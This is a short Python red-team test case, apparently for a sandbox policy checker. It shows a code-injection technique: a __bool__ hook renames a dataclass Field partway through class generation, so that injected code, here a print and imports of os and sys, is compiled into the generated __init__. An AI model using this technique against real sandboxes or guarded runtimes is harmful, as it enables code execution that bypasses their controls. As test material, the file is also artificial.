# Technique (red team): kept Field renamed from a program __bool__ that the generator calls
# expect: policy.call
# guard: compile
from dataclasses import dataclass, field

class B:
    x: int = field(default=0, init=False, repr=False, compare=False)

f = B.x

@dataclass
class C(B):
    x: int

orig = f.name
evil = "x=print('INJECTED CODE RUNS', [m for m in ['gc','os','sys'] if __import__(m)]), *_a"
calls = [0]

class T:
    def __bool__(self):
        calls[0] += 1
        if calls[0] == 3:
            f.name = evil
        if calls[0] == 4:
            f.name = orig
        return True

try:
    @dataclass
    class D(C):
        y: list = field(default_factory=list, init=T())
except TypeError as e:
    print("after payload:", e)
